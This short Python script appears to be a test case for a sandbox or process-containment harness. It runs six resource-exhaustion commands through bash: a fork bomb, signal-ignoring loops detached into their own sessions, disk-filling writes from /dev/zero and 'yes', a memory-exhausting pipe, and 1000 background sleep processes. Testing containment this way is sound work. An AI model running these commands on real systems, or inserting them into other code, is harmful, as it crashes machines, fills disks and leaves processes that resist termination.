# attack: programs/without-end
# oracle: process
# imports: subprocess
# tools:
# source: own
# note: shells that make shells, fill the folder, hide in sessions of their own, and ignore every signal
import subprocess
lines = ["f() { f | f & }; f", "trap '' TERM INT HUP; setsid bash -c 'trap \"\" TERM; while :; do :; done' & setsid nohup sleep 1000 & disown -a",
         "while :; do head -c 1000000 /dev/zero >> fill || break; done", "yes > fill2", "cat /dev/zero | tail", "for i in $(seq 1000); do sleep 1000 & done"]
for line in lines:
    try:
        subprocess.run(["bash", "-c", line], timeout=1, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    except (OSError, subprocess.TimeoutExpired) as error:
        print(error)
